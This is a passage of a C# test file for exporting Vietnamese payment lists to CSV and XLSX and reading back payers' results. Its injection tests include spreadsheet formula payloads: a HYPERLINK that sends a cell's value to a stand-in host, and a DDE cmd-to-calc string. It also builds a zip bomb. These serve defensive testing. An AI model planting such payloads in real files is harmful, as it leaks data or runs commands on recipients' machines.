using System.Globalization;
using System.IO.Compression;
using System.Text;
using CsvHelper;
using CsvHelper.Configuration;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using OneStopWindow.Api.Features.Payments.PayerFiles;

namespace OneStopWindow.Api.Tests.Features.Payments;

/// <summary>
/// The payer's files of issue 19 (api-specs/payment-files.md): the export of an approved list as CSV and XLSX, and the
/// result file read back as written and as a spreadsheet re-saves it.
/// </summary>
public sealed class PayerFileTests
{
    private static readonly PayerFileOptions Limits = new();
    private static readonly DateTimeOffset ApprovedAt = new(2025, 9, 18, 9, 30, 0, TimeSpan.FromHours(7));

    private static readonly PayerLine[] Lines =
    [
        new(Guid.Parse("0199a1b2-0000-7000-8000-000000000001"), "Nguyễn Thị Ánh", "025185000123", PayerMethods.BankAccount, "VBA 1234567890", 750_000,
            "2025-10", "2025-10"),
        new(Guid.Parse("0199a1b2-0000-7000-8000-000000000002"), "Hà Văn Thắng", "025080001234", PayerMethods.PostOfficeCash, "Bưu điện xã Thanh Ba", 2_250_000,
            "2025-08", "2025-10"),
        new(Guid.Parse("0199a1b2-0000-7000-8000-000000000003"), "Đinh Thị Hồng Nhung", null, PayerMethods.EWallet, "0912345678", 500_000, "2025-10", "2025-10"),
        new(Guid.Parse("0199a1b2-0000-7000-8000-000000000004"), "Lò Văn Páo", "025199004321", PayerMethods.HomeDelivery, "Xóm Mít, xã Đà Bắc", 1_000_000,
            "2025-10", "2025-10"),
    ];

    private static PayerListHeader Header(IReadOnlyCollection<PayerLine> lines) =>
        new(Guid.Parse("0199a1b2-0000-7000-8000-0000000000aa"), "25177", "Xã Thanh Ba", "2025-10", lines.Count, lines.Sum(l => l.AmountVnd), ApprovedAt);

    [Fact]
    public async Task The_csv_export_is_utf8_with_a_bom_one_header_row_and_one_line_per_row_and_reads_back_what_was_sent()
    {
        var file = await CsvAsync(Lines);

        Assert.Equal([0xEF, 0xBB, 0xBF], file[..3]);
        var text = Encoding.UTF8.GetString(file, 3, file.Length - 3);
        var rows = text.Split("\r\n");
        Assert.Equal("line_id,full_name,id_number,method,account,amount_vnd,period_from,period_to,result,paid_on,note", rows[0]);
        Assert.Equal("0199a1b2-0000-7000-8000-000000000002,Hà Văn Thắng,025080001234,post-office-cash,Bưu điện xã Thanh Ba,2250000,2025-08,2025-10,,,", rows[2]);
        Assert.Equal(Lines.Length + 2, rows.Length);   // the last record ends with CRLF too
        foreach (var never in new[] { "group", "coefficient", "reason", "he_so", "nhom" }) Assert.DoesNotContain(never, rows[0], StringComparison.Ordinal);

        // Nothing filled in yet: every line is read back with its amount and identity number, and "no result" as its error.
        var read = Read(file);
        Assert.Equal(Lines.Select(l => l.LineId), read.Select(r => r.LineId!.Value));
        Assert.Equal(Lines.Select(l => (long?)l.AmountVnd), read.Select(r => r.AmountVnd));
        Assert.Equal(Lines.Select(l => l.IdNumber), read.Select(r => r.IdNumber));
        Assert.Equal([2, 3, 4, 5], read.Select(r => r.Row));
        Assert.All(read, r => Assert.Equal("result-missing", Assert.Single(r.Errors).Code));
    }

    [Fact]
    public async Task A_filled_in_csv_round_trips_with_vietnamese_results_dates_and_notes()
    {
        var filled = Fill(await CsvAsync(Lines), new()
        {
            [0] = ("paid", "05/10/2025", "Đã nhận tại quầy"),
            [1] = ("đã chi", "2025-10-06", null),
            [2] = ("không nhận", null, "Vắng nhà, đi làm ăn xa"),
            [3] = ("Sai tài khoản", null, null),
        });

        var read = Read(filled);

        Assert.All(read, r => Assert.True(r.IsValid, string.Join("; ", r.Errors.Select(e => e.Message))));
        Assert.Equal([PayerResult.Paid, PayerResult.Paid, PayerResult.Unclaimed, PayerResult.WrongAccount], read.Select(r => r.Result!.Value));
        Assert.Equal([new DateOnly(2025, 10, 5), new DateOnly(2025, 10, 6), null, null], read.Select(r => r.PaidOn));
        Assert.Equal(["Đã nhận tại quầy", null, "Vắng nhà, đi làm ăn xa", null], read.Select(r => r.Note));
        Assert.All(read, r => Assert.Empty(PayerResultReader.Compare(r, Lines.Single(l => l.LineId == r.LineId))));
    }

    [Fact]
    public void The_xlsx_export_is_a_valid_workbook_with_the_lines_table_first_and_the_list_facts_second()
    {
        var file = Xlsx(Lines);

        using var document = SpreadsheetDocument.Open(new MemoryStream(file), false);
        Assert.Empty(new OpenXmlValidator(FileFormatVersions.Office2016).Validate(document));
        var workbook = document.WorkbookPart!;
        Assert.Equal(["lines", "list"], workbook.Workbook.Sheets!.Elements<Sheet>().Select(s => s.Name!.Value));
        var grid = Grid(workbook, "lines");
        Assert.Equal(PayerColumns.All, grid[0]);
        Assert.Equal(["0199a1b2-0000-7000-8000-000000000001", "Nguyễn Thị Ánh", "025185000123", "bank-account", "VBA 1234567890", "750000",
            "2025-10", "2025-10"], grid[1]);
        Assert.Equal(Lines.Length + 1, grid.Count);

        var lines = (WorksheetPart)workbook.GetPartById(workbook.Workbook.Sheets!.Elements<Sheet>().First().Id!);
        var cells = lines.Worksheet.Descendants<Cell>().ToList();
        Assert.Empty(lines.Worksheet.Descendants<CellFormula>());
        Assert.Null(workbook.SharedStringTablePart);
        var amount = Assert.Single(cells, c => c.CellReference == "F2");
        Assert.Null(amount.DataType);   // a number, not text
        Assert.All(cells.Where(c => c != amount && c.CellReference!.Value!.StartsWith('F') == false),
            c => Assert.Equal(CellValues.InlineString, c.DataType!.Value));

        var facts = Grid(workbook, "list").Where(r => r.Count == 2).ToDictionary(r => r[0], r => r[1]);
        Assert.Equal("25177", facts["ward_code"]);
        Assert.Equal("Xã Thanh Ba", facts["ward_name"]);
        Assert.Equal("2025-10", facts["month"]);
        Assert.Equal("4", facts["line_count"]);
        Assert.Equal("4500000", facts["total_vnd"]);
        Assert.Equal("2025-09-18T09:30:00+07:00", facts["approved_at"]);
        Assert.Equal(ApprovedAt.UtcDateTime, document.PackageProperties.Created?.ToUniversalTime());
        Assert.Equal(ApprovedAt.UtcDateTime, document.PackageProperties.Modified?.ToUniversalTime());
    }

    [Fact]
    public void An_xlsx_export_reads_back_as_written_and_after_a_spreadsheet_resaved_it_with_results_shared_strings_and_date_cells()
    {
        var file = Xlsx(Lines);
        var asWritten = Read(file);
        Assert.Equal(Lines.Select(l => l.LineId), asWritten.Select(r => r.LineId!.Value));
        Assert.Equal(Lines.Select(l => (long?)l.AmountVnd), asWritten.Select(r => r.AmountVnd));
        Assert.All(asWritten, r => Assert.Equal("result-missing", Assert.Single(r.Errors).Code));

        // As Excel saves it: text as shared strings, the typed date as a date serial, the sheets in another order, a
        // column added by the payer and the columns moved around.
        var grid = Grid(SpreadsheetDocument.Open(new MemoryStream(file), false).WorkbookPart!, "lines");
        var results = new[] { "Đã chi", "không chi được", "unclaimed", "wrong account" };
        foreach (var row in grid) row.AddRange(Enumerable.Repeat("", PayerColumns.All.Count - row.Count));   // the payer's cells are not written
        for (var i = 1; i < grid.Count; i++) { grid[i][8] = results[i - 1]; grid[i][10] = i == 2 ? "Ngân hàng trả về lỗi" : ""; }
        grid[1][9] = "=DATE:2025-10-05";
        var resaved = Workbook(Reorder(grid, [8, 0, 5, 1, 9, 10, 2]), sharedStrings: true, sheetName: "lines", listSheetFirst: true, extraColumn: "ma_buu_cuc");

        var read = Read(resaved);
        Assert.All(read, r => Assert.True(r.IsValid, string.Join("; ", r.Errors.Select(e => e.Message))));
        Assert.Equal([PayerResult.Paid, PayerResult.Failed, PayerResult.Unclaimed, PayerResult.WrongAccount], read.Select(r => r.Result!.Value));
        Assert.Equal(new DateOnly(2025, 10, 5), read[0].PaidOn);
        Assert.Equal("Ngân hàng trả về lỗi", read[1].Note);
        Assert.Equal(Lines.Select(l => (long?)l.AmountVnd), read.Select(r => r.AmountVnd));
        Assert.Equal(Lines.Select(l => l.IdNumber), read.Select(r => r.IdNumber));
    }

    public static TheoryData<string, string?> Injections => new()
    {
        { "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")", "-2" },
        { "+1", "@SUM(A1:A9)" },
        { "-2", "=1+1" },
        { "@SUM(1+1)*cmd|' /C calc'!A0", "+84912345678" },
        { "\t=1", "\r=2" },
    };

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task Cells_that_would_run_as_formulas_are_escaped_in_both_formats_and_read_back_unescaped(string name, string? idNumber)
    {
        var line = Lines[0] with { FullName = name, IdNumber = idNumber, Account = "=cmd" };
        var csv = await CsvAsync([line]);
        using (var parser = new CsvParser(new StreamReader(new MemoryStream(csv)), CultureInfo.InvariantCulture))
        {
            parser.Read();
            parser.Read();
            Assert.Equal("'" + name, parser.Record![1]);
            Assert.Equal("'" + idNumber, parser.Record[2]);
            Assert.Equal("'=cmd", parser.Record[4]);
        }
        var xlsx = Xlsx([line]);
        var grid = Grid(SpreadsheetDocument.Open(new MemoryStream(xlsx), false).WorkbookPart!, "lines");
        Assert.Equal(("'" + name).ReplaceLineEndings("\n"), grid[1][1]);   // XML reads a CR as LF
        Assert.Equal(("'" + idNumber).ReplaceLineEndings("\n"), grid[1][2]);
        Assert.Equal("'=cmd", grid[1][4]);
        using (var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false))
            Assert.Empty(document.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<CellFormula>()));

        Assert.Equal(name.ReplaceLineEndings("\n"), PayerResultReader.Unescape(grid[1][1]));
        foreach (var file in new[] { csv, xlsx })
        {
            var row = Assert.Single(Read(file));
            Assert.Equal(idNumber?.Trim(), row.IdNumber);   // read back as sent
        }
    }

    [Fact]
    public async Task The_same_list_exports_to_the_same_bytes_and_its_dates_come_from_the_approval_not_the_clock()
    {
        Assert.Equal(await CsvAsync(Lines), await CsvAsync(Lines));
        var first = Xlsx(Lines);
        var again = Xlsx([.. Lines]);
        Assert.Equal(first, again);
        using var viaStream = new MemoryStream();
        await PayerXlsxExport.WriteAsync(viaStream, Header(Lines), Lines, CancellationToken.None);
        Assert.Equal(first, viaStream.ToArray());

        using var zip = new ZipArchive(new MemoryStream(first), ZipArchiveMode.Read);
        Assert.All(zip.Entries, e => Assert.Equal(new DateTime(2025, 9, 18, 9, 30, 0), e.LastWriteTime.DateTime));
        using var document = SpreadsheetDocument.Open(new MemoryStream(first), false);
        Assert.Equal(ApprovedAt.UtcDateTime, document.PackageProperties.Created?.ToUniversalTime());

        var otherApproval = new MemoryStream();
        PayerXlsxExport.Write(otherApproval, Header(Lines) with { ApprovedAt = ApprovedAt.AddDays(1) }, Lines);
        Assert.NotEqual(first, otherApproval.ToArray());
    }

    [Theory]
    [InlineData("paid", PayerResult.Paid)]
    [InlineData(" PAID ", PayerResult.Paid)]
    [InlineData("đã chi", PayerResult.Paid)]
    [InlineData("Đã chi trả", PayerResult.Paid)]
    [InlineData("da chi", PayerResult.Paid)]
    [InlineData("đã nhận", PayerResult.Paid)]
    [InlineData("failed", PayerResult.Failed)]
    [InlineData("Không chi được", PayerResult.Failed)]
    [InlineData("chi không thành công", PayerResult.Failed)]
    [InlineData("thất bại", PayerResult.Failed)]
    [InlineData("unclaimed", PayerResult.Unclaimed)]
    [InlineData("không nhận", PayerResult.Unclaimed)]
    [InlineData("Chưa nhận", PayerResult.Unclaimed)]
    [InlineData("wrong-account", PayerResult.WrongAccount)]
    [InlineData("wrong_account", PayerResult.WrongAccount)]
    [InlineData("Wrong Account", PayerResult.WrongAccount)]
    [InlineData("sai tài khoản", PayerResult.WrongAccount)]
    [InlineData("SAI TAI KHOAN", PayerResult.WrongAccount)]
    public void Every_result_value_and_its_vietnamese_synonyms_are_understood(string written, PayerResult expected)
    {
        Assert.True(PayerResults.TryParse(written, out var result));
        Assert.Equal(expected, result);
    }

    [Theory]
    [InlineData("")]
    [InlineData("ok")]
    [InlineData("chi")]
    [InlineData("không")]
    [InlineData("1")]
    public void Words_that_are_no_result_are_refused(string written) => Assert.False(PayerResults.TryParse(written, out _));

    [Fact]
    public void Each_wire_name_and_each_synonym_is_read_from_a_file()
    {
        var words = PayerResults.Synonyms.SelectMany(s => s.Value.Select(w => (Word: w, Result: s.Key))).ToList();
        var csv = new StringBuilder("line_id,result\r\n");
        foreach (var (word, _) in words) csv.Append(CultureInfo.InvariantCulture, $"{Guid.CreateVersion7()},{word}\r\n");

        var read = Read(Encoding.UTF8.GetBytes(csv.ToString()));

        Assert.Equal(words.Select(w => (PayerResult?)w.Result), read.Select(r => r.Result));
        Assert.All(read, r => Assert.True(r.IsValid));
        Assert.Equal(PayerResults.WireNames.Values, PayerResults.Synonyms.Values.Select(s => s[0]));
    }

    [Fact]
    public void Each_bad_row_gets_its_own_error_with_its_row_number_and_the_good_rows_are_read()
    {
        var id = Lines[0].LineId;
        var file = Encoding.UTF8.GetBytes(
            "line_id,result,amount_vnd,paid_on,note\r\n" +
            $"{id},paid,750000,05/10/2025,\r\n" +          // row 2: good
            "abc,paid,750000,,\r\n" +                        // row 3: not a line id
            $"{Lines[1].LineId},có lẽ,2250000,,\r\n" +     // row 4: unknown result
            $"{Lines[2].LineId},,500000,,\r\n" +           // row 5: no result
            $"{Lines[3].LineId},paid,1.000.000đ,32/13/2025,\r\n" +   // row 6: bad amount and date
            ",,,,\r\n" +                                    // row 7: blank, skipped
            $"{id},failed,750000,,\r\n" +                  // row 8: the same line again
            $",paid,1,,\r\n");                              // row 9: no line id

        var read = Read(file);

        Assert.Equal([2, 3, 4, 5, 6, 8, 9], read.Select(r => r.Row));
        Assert.True(read[0].IsValid);
        Assert.Equal((PayerResult?)PayerResult.Paid, read[0].Result);
        var errors = read.SelectMany(r => r.Errors).Select(e => (e.Row, e.Column, e.Code)).ToList();
        Assert.Equal([
            (3, "line_id", "line-id-invalid"),
            (4, "result", "result-unknown"),
            (5, "result", "result-missing"),
            (6, "paid_on", "paid-on-invalid"),
            (6, "amount_vnd", "amount-invalid"),
            (8, "line_id", "line-id-duplicate"),
            (9, "line_id", "line-id-missing"),
        ], errors.OrderBy(e => e.Row).ThenByDescending(e => e.Column, StringComparer.Ordinal).ToList());
        var duplicate = read.Single(r => r.Row == 8).Errors.Single();
        Assert.Equal($"Mã dòng {id} trùng với dòng 2: mỗi dòng chỉ ghi một kết quả.", duplicate.Message);
        Assert.Contains("không hợp lệ", read.Single(r => r.Row == 4).Errors.Single().Message, StringComparison.Ordinal);
        Assert.Contains("\"abc\"", read.Single(r => r.Row == 3).Errors.Single().Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_caller_compares_amounts_and_identity_numbers_with_its_list_through_one_check()
    {
        var row = new PayerResultRow(7, Lines[1].LineId, PayerResult.Paid, null, null, 2_000_000, "25080001234", []);

        Assert.Equal("amount-differs", Assert.Single(PayerResultReader.Compare(row, Lines[1])).Code);   // leading zero lost: same person
        Assert.Equal("Số tiền 2.000.000 đồng khác số tiền trong danh sách đã gửi (2.250.000 đồng).",
            PayerResultReader.Compare(row, Lines[1]).Single().Message);
        Assert.Equal(["id-number-differs"], PayerResultReader.Compare(row with { AmountVnd = 2_250_000, IdNumber = "025080009999" }, Lines[1]).Select(e => e.Code));
        Assert.Empty(PayerResultReader.Compare(row with { AmountVnd = null, IdNumber = null }, Lines[1]));
        var missing = Assert.Single(PayerResultReader.Compare(row, null));
        Assert.Equal(("line-not-on-list", 7), (missing.Code, missing.Row));
    }

    [Fact]
    public async Task A_csv_resaved_by_excel_in_a_vietnamese_locale_with_semicolons_and_grouped_amounts_is_read()
    {
        var filled = Fill(await CsvAsync(Lines), new()
        {
            [0] = ("Đã chi", "05/10/2025", "Nhận; ký sổ"),
            [1] = ("failed", "", ""),
            [2] = ("unclaimed", "", ""),
            [3] = ("wrong-account", "", ""),
        }, delimiter: ";", amount: a => a.ToString("#,##0", CultureInfo.GetCultureInfo("vi-VN")));
        Assert.Contains(";2.250.000;", Encoding.UTF8.GetString(filled), StringComparison.Ordinal);

        var read = Read(filled);

        Assert.All(read, r => Assert.True(r.IsValid, string.Join("; ", r.Errors.Select(e => e.Message))));
        Assert.Equal(Lines.Select(l => (long?)l.AmountVnd), read.Select(r => r.AmountVnd));
        Assert.Equal("Nhận; ký sổ", read[0].Note);
        Assert.Equal([PayerResult.Paid, PayerResult.Failed, PayerResult.Unclaimed, PayerResult.WrongAccount], read.Select(r => r.Result!.Value));
    }

    [Fact]
    public async Task A_csv_saved_in_the_windows_vietnamese_code_page_without_a_bom_is_read()
    {
        var windows1258 = CodePagesEncodingProvider.Instance.GetEncoding(1258)!;
        var filled = Fill(await CsvAsync(Lines), new() { [0] = ("đã chi", "", "Ông Thắng ký nhận"), [1] = ("không nhận", "", "") },
            delimiter: ";", encoding: windows1258);
        Assert.NotEqual(0xEF, filled[0]);

        var read = Read(filled);

        Assert.Equal((PayerResult?)PayerResult.Paid, read[0].Result);
        Assert.Equal("Ông Thắng ký nhận", read[0].Note);
        Assert.Equal((PayerResult?)PayerResult.Unclaimed, read[1].Result);
    }

    [Fact]
    public async Task Columns_are_found_by_name_in_any_order_and_case_and_extra_columns_or_a_title_row_are_ignored()
    {
        var export = await CsvAsync(Lines);
        var grid = CsvGrid(export);
        grid[0] = [.. grid[0].Select(h => h.ToUpperInvariant())];
        for (var i = 1; i < grid.Count; i++) grid[i][8] = "paid";
        var reordered = Reorder(grid, [8, 5, 0, 10, 2]);
        reordered[0].Add("Ghi chú nội bộ");
        for (var i = 1; i < reordered.Count; i++) reordered[i].Add("x");
        reordered.Insert(0, ["DANH SÁCH CHI TRẢ THÁNG 10/2025"]);   // a title row the payer typed above the header
        var text = new StringWriter();
        using (var csv = new CsvWriter(text, CultureInfo.InvariantCulture))
            foreach (var row in reordered) { foreach (var cell in row) csv.WriteField(cell); csv.NextRecord(); }

        var read = Read(new UTF8Encoding(true).GetPreamble().Concat(Encoding.UTF8.GetBytes(text.ToString())).ToArray());

        Assert.Equal(Lines.Select(l => l.LineId), read.Select(r => r.LineId!.Value));
        Assert.Equal(Lines.Select(l => (long?)l.AmountVnd), read.Select(r => r.AmountVnd));
        Assert.All(read, r => Assert.True(r.IsValid));
        Assert.Equal(3, read[0].Row);
    }

    [Fact]
    public async Task A_file_over_the_size_limit_or_the_row_limit_is_refused_whole()
    {
        var file = await CsvAsync(Enumerable.Range(0, 40).Select(i => Lines[i % 4] with { LineId = Guid.CreateVersion7() }));
        var small = new PayerFileOptions { MaxBytes = 1024 };
        Assert.True(file.Length > 1024);

        var tooLarge = Assert.Throws<PayerFileException>(() => PayerResultReader.Read(new MemoryStream(file), small));
        Assert.Equal("file-too-large", tooLarge.Code);
        Assert.Equal("Tệp lớn hơn giới hạn 1 KB.", tooLarge.Message);
        Assert.Equal("Tệp lớn hơn giới hạn 20 MB.", Assert.Throws<PayerFileException>(() =>
            PayerResultReader.Read(new MemoryStream(new byte[Limits.MaxBytes + 1]), Limits)).Message);
        var unseekable = Assert.Throws<PayerFileException>(() => PayerResultReader.Read(new OneWayStream(file), small));
        Assert.Equal("file-too-large", unseekable.Code);

        var fewRows = new PayerFileOptions { MaxRows = 39 };
        var tooMany = Assert.Throws<PayerFileException>(() => PayerResultReader.Read(new MemoryStream(file), fewRows).ToList());
        Assert.Equal(("too-many-rows", "Tệp có hơn 39 dòng."), (tooMany.Code, tooMany.Message));
        Assert.Equal(40, PayerResultReader.Read(new MemoryStream(file), new PayerFileOptions { MaxRows = 40 }).Count());
        var xlsx = Xlsx(Enumerable.Range(0, 40).Select(i => Lines[i % 4] with { LineId = Guid.CreateVersion7() }).ToList());
        Assert.Equal("too-many-rows", Assert.Throws<PayerFileException>(() => PayerResultReader.Read(new MemoryStream(xlsx), fewRows).ToList()).Code);
    }

    [Fact]
    public void An_xlsx_that_would_unpack_past_the_limit_is_refused_without_unpacking_it()
    {
        var bomb = new MemoryStream();
        bomb.Write(Xlsx(Lines));
        using (var zip = new ZipArchive(bomb, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var padding = zip.CreateEntry("xl/padding.bin", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 64; i++) padding.Write(zeros);   // 64 MB in about 64 KB
        }
        Assert.True(bomb.Length < 200_000);

        var refused = Assert.Throws<PayerFileException>(() => PayerResultReader.Read(new MemoryStream(bomb.ToArray()), new PayerFileOptions
        {
            MaxUnpackedBytes = 32L * 1024 * 1024,
        }).ToList());

        Assert.Equal("unpacked-too-large", refused.Code);
        Assert.Equal(Lines.Length, PayerResultReader.Read(new MemoryStream(bomb.ToArray()), Limits).Count());
    }

    public static TheoryData<string, byte[]> Malformed => new()
    {
        { "not-a-table", [0x00, 0x01, 0x02, 0x03, 0x89, 0x50, 0x4E, 0x47, 0x00, 0x00] },
        { "xls-not-supported", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0x00, 0x00] },
        { "unreadable", [.. "PK\u0003\u0004 not really a zip file at all"u8] },
        { "unreadable", BrokenSheet() },
        { "unreadable", ZipWithout("xl/workbook.xml") },
        { "missing-columns", [] },
        { "missing-columns", [.. "name,amount\r\nA,1\r\n"u8] },
        { "missing-columns", [.. "line_id,amount_vnd\r\n0199a1b2-0000-7000-8000-000000000001,1\r\n"u8] },
        { "cell-too-long", [.. Encoding.UTF8.GetBytes("line_id,result,note\r\n0199a1b2-0000-7000-8000-000000000001,paid,\"" + new string('x', 5000) + "\"\r\n")] },
    };

    [Theory]
    [MemberData(nameof(Malformed))]
    public void A_malformed_file_is_refused_with_a_clear_error(string code, byte[] file)
    {
        var refused = Assert.Throws<PayerFileException>(() => PayerResultReader.Read(new MemoryStream(file), Limits).ToList());

        Assert.Equal(code, refused.Code);
        Assert.False(string.IsNullOrWhiteSpace(refused.Message));
        Assert.DoesNotContain("Exception", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_200000_line_xlsx_export_reads_back_line_for_line()
    {
        const int count = 200_000;
        var lines = Enumerable.Range(0, count).Select(i => new PayerLine(Guid.CreateVersion7(), $"Nguyễn Thị Ánh {i}", (25_000_000_000L + i).ToString("D12", CultureInfo.InvariantCulture),
            PayerMethods.All[i % 4], $"VBA {1_000_000_000 + i}", 500_000 + i % 7 * 250_000, "2025-10", "2025-10")).ToList();
        using var file = new MemoryStream();
        PayerXlsxExport.Write(file, Header(lines), lines);
        file.Position = 0;

        var read = 0;
        foreach (var row in PayerResultReader.Read(file, Limits))
        {
            var line = lines[read];
            Assert.Equal(read + 2, row.Row);
            Assert.Equal(line.LineId, row.LineId);
            Assert.Equal(line.AmountVnd, row.AmountVnd);
            Assert.Equal(line.IdNumber, row.IdNumber);
            Assert.Equal("result-missing", Assert.Single(row.Errors).Code);
            read++;
        }
        Assert.Equal(count, read);
    }

    // --- building and re-saving files as a payer's spreadsheet would ---

    private static async Task<byte[]> CsvAsync(IEnumerable<PayerLine> lines)
    {
        using var output = new MemoryStream();
        await PayerCsvExport.WriteAsync(output, lines, CancellationToken.None);
        return output.ToArray();
    }

    private static byte[] Xlsx(IReadOnlyCollection<PayerLine> lines)
    {
        using var output = new MemoryStream();
        PayerXlsxExport.Write(output, Header(lines), lines);
        return output.ToArray();
    }

    private static List<PayerResultRow> Read(byte[] file) => PayerResultReader.Read(new MemoryStream(file), Limits).ToList();

    private static List<List<string>> CsvGrid(byte[] csv)
    {
        using var parser = new CsvParser(new StreamReader(new MemoryStream(csv)), CultureInfo.InvariantCulture);
        var grid = new List<List<string>>();
        while (parser.Read()) grid.Add([.. parser.Record!]);
        return grid;
    }

    /// <summary>The export with the payer's columns filled in for some lines (by index), written back as a spreadsheet saves CSV.</summary>
    private static byte[] Fill(byte[] export, Dictionary<int, (string Result, string? PaidOn, string? Note)> results, string delimiter = ",",
        Encoding? encoding = null, Func<long, string>? amount = null)
    {
        var grid = CsvGrid(export);
        foreach (var (index, (result, paidOn, note)) in results)
        {
            var row = grid[index + 1];
            (row[8], row[9], row[10]) = (result, paidOn ?? "", note ?? "");
            if (amount is not null) row[5] = amount(long.Parse(row[5], CultureInfo.InvariantCulture));
        }
        encoding ??= new UTF8Encoding(true);
        using var output = new MemoryStream();
        using (var writer = new StreamWriter(output, encoding))
        using (var csv = new CsvWriter(writer, new CsvConfiguration(CultureInfo.InvariantCulture) { Delimiter = delimiter }))
            foreach (var row in grid)
            {
                foreach (var cell in row) csv.WriteField(encoding.CodePage == 1258 ? AsWindows1258Text(cell) : cell);
                csv.NextRecord();
            }
        return output.ToArray();
    }

    /// <summary>
    /// As Windows converts Vietnamese to code page 1258: the letters it has (ê, ơ, ư, đ…) with the tone as a combining
    /// mark after them, since the code page has few precomposed toned letters.
    /// </summary>
    private static string AsWindows1258Text(string text)
    {
        var tones = new HashSet<char> { '\u0300', '\u0301', '\u0303', '\u0309', '\u0323' };
        var sb = new StringBuilder();
        foreach (var letter in text.Normalize(NormalizationForm.FormC))
        {
            var parts = letter.ToString().Normalize(NormalizationForm.FormD);
            sb.Append(string.Concat(parts.Where(c => !tones.Contains(c))).Normalize(NormalizationForm.FormC));
            sb.Append(string.Concat(parts.Where(tones.Contains)));
        }
        return sb.ToString();
    }

    private static List<List<string>> Reorder(List<List<string>> grid, int[] columns) =>
        [.. grid.Select(row => columns.Select(c => c < row.Count ? row[c] : "").ToList())];

    /// <summary>Cell texts of a sheet by row (inline or shared strings, numbers as stored).</summary>
    private static List<List<string>> Grid(WorkbookPart workbook, string sheetName)
    {
        var sheet = workbook.Workbook.Sheets!.Elements<Sheet>().Single(s => s.Name == sheetName);
        var part = (WorksheetPart)workbook.GetPartById(sheet.Id!);
        var shared = workbook.SharedStringTablePart?.SharedStringTable.Elements<SharedStringItem>().Select(s => s.InnerText).ToList();
        var grid = new List<List<string>>();
        foreach (var row in part.Worksheet.Descendants<Row>())
        {
            var cells = new List<string>();
            foreach (var c in row.Elements<Cell>())
            {
                var column = c.CellReference!.Value!.TakeWhile(char.IsLetter).Aggregate(0, (n, l) => n * 26 + l - 'A' + 1) - 1;
                while (cells.Count <= column) cells.Add("");
                cells[column] = c.DataType?.Value == CellValues.InlineString ? c.InlineString!.InnerText
                    : c.DataType?.Value == CellValues.SharedString ? shared![int.Parse(c.CellValue!.Text, CultureInfo.InvariantCulture)]
                    : c.CellValue?.Text ?? "";
            }
            grid.Add(cells);
        }
        return grid;
    }

    /// <summary>
    /// A workbook as Excel saves one: text in the shared-string table, whole numbers as numbers, "=DATE:yyyy-MM-dd" as a
    /// date serial, optionally another sheet first and a column the payer added.
    /// </summary>
    private static byte[] Workbook(List<List<string>> grid, bool sharedStrings, string sheetName, bool listSheetFirst, string? extraColumn = null)
    {
        using var output = new MemoryStream();
        using (var document = SpreadsheetDocument.Create(output, SpreadsheetDocumentType.Workbook))
        {
            var workbook = document.AddWorkbookPart();
            var table = new List<string>();
            var data = new SheetData();
            for (var r = 0; r < grid.Count; r++)
            {
                var row = new Row { RowIndex = (uint)(r + 1) };
                var cells = extraColumn is null ? grid[r] : [.. grid[r], r == 0 ? extraColumn : "BC-" + r];
                for (var c = 0; c < cells.Count; c++)
                {
                    var text = cells[c];
                    if (text.Length == 0) continue;
                    var cell = new Cell { CellReference = ColumnName(c) + (r + 1) };
                    if (text.StartsWith("=DATE:", StringComparison.Ordinal))
                        cell.CellValue = new CellValue(DateTime.Parse(text[6..], CultureInfo.InvariantCulture).ToOADate().ToString(CultureInfo.InvariantCulture));
                    else if (r > 0 && long.TryParse(text, NumberStyles.None, CultureInfo.InvariantCulture, out _) && !text.StartsWith('0'))
                        cell.CellValue = new CellValue(text);
                    else if (sharedStrings)
                    {
                        cell.DataType = CellValues.SharedString;
                        var index = table.IndexOf(text);
                        if (index < 0) { index = table.Count; table.Add(text); }
                        cell.CellValue = new CellValue(index.ToString(CultureInfo.InvariantCulture));
                    }
                    else
                    {
                        cell.DataType = CellValues.InlineString;
                        cell.InlineString = new InlineString(new Text(text));
                    }
                    row.Append(cell);
                }
                data.Append(row);
            }
            var lines = workbook.AddNewPart<WorksheetPart>("rIdLines");
            lines.Worksheet = new Worksheet(data);
            var list = workbook.AddNewPart<WorksheetPart>("rIdList");
            list.Worksheet = new Worksheet(new SheetData(new Row(new Cell { DataType = CellValues.InlineString, InlineString = new InlineString(new Text("line_id")) })));
            if (sharedStrings)
                workbook.AddNewPart<SharedStringTablePart>("rIdStrings").SharedStringTable =
                    new SharedStringTable(table.Select(t => new SharedStringItem(new Text(t))));
            Sheet[] sheets = [new() { Name = sheetName, SheetId = 1, Id = "rIdLines" }, new() { Name = "list", SheetId = 2, Id = "rIdList" }];
            workbook.Workbook = new Workbook(new Sheets(listSheetFirst ? sheets.Reverse() : sheets));
        }
        return output.ToArray();
    }

    private static string ColumnName(int index) => index < 26 ? ((char)('A' + index)).ToString() : "A" + (char)('A' + index - 26);

    private static byte[] BrokenSheet()
    {
        var file = new MemoryStream();
        file.Write(Xlsx(Lines));
        using (var zip = new ZipArchive(file, ZipArchiveMode.Update, leaveOpen: true))
        {
            var sheet = zip.Entries.Single(e => e.FullName == "xl/worksheets/sheet1.xml");
            string xml;
            using (var reader = new StreamReader(sheet.Open())) xml = reader.ReadToEnd();
            sheet.Delete();
            using var writer = new StreamWriter(zip.CreateEntry("xl/worksheets/sheet1.xml").Open());
            writer.Write(xml[..(xml.Length / 2)]);   // cut in the middle of the rows
        }
        return file.ToArray();
    }

    private static byte[] ZipWithout(string entry)
    {
        var file = new MemoryStream();
        file.Write(Xlsx(Lines));
        using (var zip = new ZipArchive(file, ZipArchiveMode.Update, leaveOpen: true)) zip.GetEntry(entry)!.Delete();
        return file.ToArray();
    }

    /// <summary>A request body: read forward only, length unknown.</summary>
    private sealed class OneWayStream(byte[] bytes) : MemoryStream(bytes)
    {
        public override bool CanSeek => false;
        public override long Length => throw new NotSupportedException();
